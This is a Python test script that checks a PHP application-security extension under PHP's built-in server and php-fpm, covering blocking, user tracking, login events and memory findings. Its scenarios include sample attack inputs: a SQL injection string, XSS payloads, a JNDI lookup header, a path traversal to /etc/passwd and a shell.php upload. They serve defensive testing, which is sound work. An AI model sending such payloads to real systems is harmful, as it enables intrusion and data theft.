#!/usr/bin/env python3
"""Sends requests to an application that the extension protects: http_test.py EXTENSION [--server builtin|fpm|valgrind]

Each scenario runs under PHP's own server and under php-fpm, with its cache of compiled scripts, where that is installed; with
`--server valgrind` under PHP's own server under valgrind, whose findings are failures.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import os
import pathlib
import re
import shutil
import socket
import struct
import subprocess
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

HERE = pathlib.Path(__file__).parent
APP = HERE / "app" / "index.php"
BOUNDARY = "limit"


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes


@dataclass
class Request:
    target: str
    method: str = "GET"
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class Scenario:
    name: str
    request: Request
    status: int = 200
    body: bytes | None = None
    # Tags of the report, and texts that they must contain.
    tags: dict[str, str] = field(default_factory=dict)
    absent: tuple[str, ...] = ("appsec.event",)


def multipart(*parts: tuple[str, str]) -> Request:
    text = "".join(
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; {head}\r\n\r\n{value}\r\n" for head, value in parts
    )
    kind = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    return Request("/", "POST", f"{text}--{BOUNDARY}--\r\n".encode(), kind)


def form(target: str, text: str) -> Request:
    return Request(target, "POST", text.encode(), {"Content-Type": "application/x-www-form-urlencoded"})


def json_request(text: str) -> Request:
    return Request("/", "POST", text.encode(), {"Content-Type": "application/json"})


ATTACK = "' or 1=1 union select password from users --"


def attack(name: str, request: Request) -> Scenario:
    return Scenario(
        f"an attack in {name}", request, 403, None, {"appsec.blocked": "true", "_dd.appsec.json": "bz-"}, ()
    )


SCENARIOS = [
    Scenario("an honest request", Request("/?q=boats"), body=b"hello []\n", tags={"http.client_ip": "127.0.0.1"}),
    Scenario("an honest form", form("/", "a=1&b[]=2&b[]=3"), body=b'hello {"a":"1","b":["2","3"]}\n'),
    Scenario(
        "an honest upload",
        multipart(('name="a"', "1"), ('name="f"; filename="boat.png"', "x")),
        body=b'hello {"a":"1"}\n',
    ),
    Scenario("raw bodies stay readable", json_request('{"a": [1, 2]}'), body=b"hello []\n"),
    attack("the query", Request("/?q=%3Cscript%3Ealert(1)%3C/script%3E")),
    attack("a form", form("/", "a=" + ATTACK.replace(" ", "+"))),
    attack("a nested form", form("/", "a[b][c]=" + ATTACK.replace(" ", "+"))),
    attack("a JSON body", json_request(json.dumps({"a": {"b": ATTACK}}))),
    attack("a field of a form with files", multipart(('name="a"', ATTACK), ('name="f"; filename="x.png"', "x"))),
    attack("the name of a file", multipart(('name="f"; filename="shell.php"', "x"))),
    attack(
        "one of several files",
        multipart(*(('name="f[]"; filename="' + name + '"', "x") for name in ("a.png", "b.php"))),
    ),
    attack("a header", Request("/", headers={"User-Agent": "${jndi:ldap://x.test/a}"})),
    attack("a cookie", Request("/", headers={"Cookie": "a=%3Cscript%3Ealert(1)%3C/script%3E"})),
    attack("the path", Request("/../../../../etc/passwd")),
    Scenario(
        "a page for browsers",
        Request("/?q=%3Cscript%3Ealert(1)%3C/script%3E", headers={"Accept": "text/html"}),
        403,
        tags={"appsec.blocked": "true"},
        absent=(),
    ),
    Scenario(
        "set_user",
        Request("/user"),
        tags={"usr.id": "u-1", "usr.role": "admin", "_dd.appsec.user.collection_mode": "sdk"},
    ),
    Scenario(
        "a login, v1",
        Request("/login-v1"),
        tags={
            "usr.id": "u-1",
            "appsec.events.users.login.success.track": "true",
            "appsec.events.users.login.success.plan": "a",
        },
    ),
    Scenario(
        "a login, v2",
        Request("/login-v2"),
        tags={
            "usr.id": "u-2",
            "appsec.events.users.login.success.usr.login": "bob",
            "_dd.appsec.events.users.login.success.sdk": "true",
        },
    ),
    Scenario(
        "a failed login, v1",
        Request("/failure-v1"),
        401,
        tags={
            "appsec.events.users.login.failure.usr.id": "u-1",
            "appsec.events.users.login.failure.usr.exists": "true",
        },
    ),
    Scenario(
        "a failed login, v2",
        Request("/failure-v2"),
        401,
        tags={
            "appsec.events.users.login.failure.usr.login": "bob",
            "appsec.events.users.login.failure.usr.exists": "false",
        },
    ),
    Scenario("a sign-up, v1", Request("/signup-v1"), tags={"appsec.events.users.signup.track": "true"}),
    Scenario("a sign-up, v2", Request("/signup-v2"), tags={"appsec.events.users.signup.usr.login": "bob"}),
    Scenario("a custom event, v1", Request("/custom-v1"), tags={"appsec.events.order.sent.amount": "12"}),
    Scenario("a custom event, v2", Request("/custom-v2"), tags={"appsec.events.order.sent.track": "true"}),
    Scenario("the status is reported", Request("/missing"), 404, tags={"http.client_ip": "127.0.0.1"}),
    Scenario("a user is blocked", Request("/block-user"), body=b"true\n"),
    Scenario(
        "it shows when the user is known", Request("/user"), 403, None, {"appsec.blocked": "true", "usr.id": "u-1"}, ()
    ),
    Scenario(
        "what the application has buffered is discarded",
        Request("/buffered"),
        403,
        None,
        {"appsec.blocked": "true"},
        (),
    ),
    Scenario("what is on its way is not, but ends", Request("/written"), 200, b"secret", {"usr.id": "u-1"}, ()),
    Scenario("the user is unblocked", Request("/unblock-user"), body=b"true\n"),
    Scenario("and may come back", Request("/user"), tags={"usr.id": "u-1"}),
    Scenario("an address is blocked", Request("/block-address"), body=b"true\n"),
    Scenario("and refused", Request("/?q=boats"), 403, None, {"actor.ip": "127.0.0.1"}, ()),
]


class BuiltinServer:
    """PHP's own server."""

    name = "php -S"

    def __init__(self, port: int) -> None:
        self.port = port

    def send(self, request: Request) -> Answer:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        connection.request(request.method, request.target, request.body, {"Accept": "*/*", **request.headers})
        response = connection.getresponse()
        body = response.read()
        connection.close()
        return Answer(response.status, {name.lower(): value for name, value in response.getheaders()}, body)


class FpmServer:
    """php-fpm, which is sent what a web server would send it, by FastCGI."""

    name = "php-fpm"

    def __init__(self, path: pathlib.Path) -> None:
        self.path = path

    def send(self, request: Request) -> Answer:
        variables = {
            "REQUEST_METHOD": request.method,
            "REQUEST_URI": request.target,
            "QUERY_STRING": request.target.partition("?")[2],
            "SCRIPT_FILENAME": str(APP.resolve()),
            "SCRIPT_NAME": "/index.php",
            "REMOTE_ADDR": "127.0.0.1",
            "SERVER_PROTOCOL": "HTTP/1.1",
            "CONTENT_LENGTH": str(len(request.body)),
            "HTTP_ACCEPT": "*/*",
        }
        for name, value in request.headers.items():
            prefix = "" if name == "Content-Type" else "HTTP_"
            variables[prefix + name.upper().replace("-", "_")] = value
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(30)
            connection.connect(str(self.path))
            connection.sendall(fcgi(1, struct.pack(">HB5x", 1, 0)))
            pairs = b"".join(fcgi_pair(name.encode(), value.encode()) for name, value in variables.items())
            connection.sendall(fcgi(4, pairs) + fcgi(4, b"") + fcgi(5, request.body) + fcgi(5, b""))
            return cgi_answer(fcgi_output(connection))


def fcgi(kind: int, content: bytes) -> bytes:
    return struct.pack(">BBHHBx", 1, kind, 1, len(content), 0) + content


def fcgi_pair(name: bytes, value: bytes) -> bytes:
    return struct.pack(">II", len(name) | 1 << 31, len(value) | 1 << 31) + name + value


def fcgi_output(connection: socket.socket) -> bytes:
    stream = connection.makefile("rb")
    output = b""
    while head := stream.read(8):
        _, kind, _, length, padding = struct.unpack(">BBHHBx", head)
        content = stream.read(length)
        stream.read(padding)
        if kind == 6:
            output += content
        elif kind == 3:
            break
    return output


def cgi_answer(output: bytes) -> Answer:
    head, _, body = output.partition(b"\r\n\r\n")
    headers = {}
    for line in head.decode("latin-1").split("\r\n"):
        name, _, value = line.partition(":")
        headers[name.lower()] = value.strip()
    return Answer(int(headers.pop("status", "200").split()[0]), headers, body)


def options(extension: pathlib.Path, report: pathlib.Path) -> list[str]:
    settings = [
        f"extension={extension}",
        f"bartizan.report_file={report}",
        "bartizan.mode=block",
        "display_errors=stderr",
    ]
    return ["-n", *(part for setting in settings for part in ("-d", setting))]


def wait_for(path: pathlib.Path | None, port: int, process: subprocess.Popen[bytes]) -> None:
    for _ in range(600):
        if process.poll() is not None:
            raise SystemExit(f"the server ended with {process.returncode}")
        with contextlib.suppress(OSError):
            family, address = (socket.AF_UNIX, str(path)) if path else (socket.AF_INET, ("127.0.0.1", port))
            with socket.socket(family) as connection:
                connection.connect(address)
                return
        time.sleep(0.1)
    raise SystemExit("the server does not listen")


@contextlib.contextmanager
def running(
    command: list[str], path: pathlib.Path | None = None, port: int = 0, env: dict[str, str] | None = None
) -> Iterator[None]:
    process = subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env={**os.environ, **(env or {})}
    )
    try:
        wait_for(path, port, process)
        yield
    finally:
        process.terminate()
        _, messages = process.communicate(timeout=60)
        if findings := found_in(messages.decode(errors="replace")):
            raise SystemExit("\n\n".join(findings))


def found_in(messages: str) -> list[str]:
    """Warnings, and what valgrind found, save what PHP itself does not free when it is ended."""
    warnings = [line for line in messages.splitlines() if "PHP Warning" in line]
    records = re.split(r"^==\d+== $", messages, flags=re.MULTILINE)
    findings = [record for record in records if re.search(r"^==\d+== ", record, re.MULTILINE)]
    return warnings + [record for record in findings if "bartizan" in record or "definitely lost" not in record]


@contextlib.contextmanager
def builtin(extension: pathlib.Path, report: pathlib.Path, runner: list[str]) -> Iterator[BuiltinServer]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command = [*runner, shutil.which("php") or "php", *options(extension, report), "-S", f"127.0.0.1:{port}", str(APP)]
    # The leak checker sees nothing in memory that PHP manages itself.
    with running(command, port=port, env={"USE_ZEND_ALLOC": "0"} if runner else None):
        yield BuiltinServer(port)


@contextlib.contextmanager
def fpm(extension: pathlib.Path, report: pathlib.Path, program: str, folder: pathlib.Path) -> Iterator[FpmServer]:
    path = folder / "fpm.sock"
    config = folder / "fpm.conf"
    user = "\nuser = root\ngroup = root" if os.geteuid() == 0 else ""
    pool = f"[test]{user}\nlisten = {path}\npm = static\npm.max_children = 1\ncatch_workers_output = yes\n"
    config.write_text(f"[global]\ndaemonize = no\nerror_log = /dev/stderr\nlog_level = warning\n{pool}")
    cache = ["-d", "zend_extension=opcache", "-d", "opcache.enable=1"]
    root = ["--allow-to-run-as-root"] if os.geteuid() == 0 else []
    command = [program, *options(extension, report), *cache, *root, "--fpm-config", str(config), "--nodaemonize"]
    with running(command, path=path):
        yield FpmServer(path)


def report_of(path: pathlib.Path, before: int) -> dict[str, str]:
    """The tags of the last request, which is reported after it is answered."""
    for _ in range(300):
        lines = path.read_text().splitlines() if path.exists() else []
        if len(lines) > before:
            return json.loads(lines[-1])
        time.sleep(0.1)
    raise SystemExit("there is no report")


def play(server: BuiltinServer | FpmServer, report: pathlib.Path) -> int:
    failures = 0
    for number, scenario in enumerate(SCENARIOS):
        answer = server.send(scenario.request)
        tags = report_of(report, number)
        wrong = []
        if answer.status != scenario.status:
            wrong.append(f"status {answer.status}, not {scenario.status}")
        if scenario.body is not None and answer.body != scenario.body:
            wrong.append(f"body {answer.body!r}")
        if scenario.status == 403 and (
            b"secret" in answer.body or b"hello" in answer.body or b"blocked" not in answer.body
        ):
            wrong.append(f"body {answer.body!r}")
        if scenario.request.headers.get("Accept") == "text/html" and "html" not in answer.headers.get(
            "content-type", ""
        ):
            wrong.append(f"type {answer.headers.get('content-type')}")
        wrong += [f"{tag} is {tags.get(tag)!r}" for tag, part in scenario.tags.items() if part not in tags.get(tag, "")]
        wrong += [f"{tag} is {tags[tag]!r}" for tag in scenario.absent if tag in tags]
        if wrong:
            failures += 1
            print(f"{server.name}: {scenario.name}: {', '.join(wrong)}")
    print(f"{server.name}: {len(SCENARIOS)} requests, {failures} failures")
    return failures


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("extension", type=pathlib.Path)
    parser.add_argument("--server", choices=["all", "builtin", "fpm", "valgrind"], default="all")
    given = parser.parse_args()
    extension = given.extension.resolve()
    program = next((found for name in ("php-fpm", "php-fpm8.2") if (found := shutil.which(name))), None)
    failures = 0
    with tempfile.TemporaryDirectory() as folder:
        report = pathlib.Path(folder, "builtin.jsonl")
        checker = "valgrind --quiet --leak-check=full --show-leak-kinds=definite --errors-for-leak-kinds=definite"
        if given.server in ("all", "builtin", "valgrind"):
            runner = checker.split() if given.server == "valgrind" else []
            with builtin(extension, report, runner) as server:
                failures += play(server, report)
        if given.server in ("all", "fpm"):
            if program is None:
                if given.server == "fpm":
                    raise SystemExit("php-fpm is not installed")
                subprocess.run(
                    [HERE.parent / "scripts" / "left-out", "tests/php under php-fpm", "php-fpm is not installed"],
                    check=False,
                )
            else:
                report = pathlib.Path(folder, "fpm.jsonl")
                with fpm(extension, report, program, pathlib.Path(folder)) as fpm_server:
                    failures += play(fpm_server, report)
    raise SystemExit(1 if failures else 0)


if __name__ == "__main__":
    main()
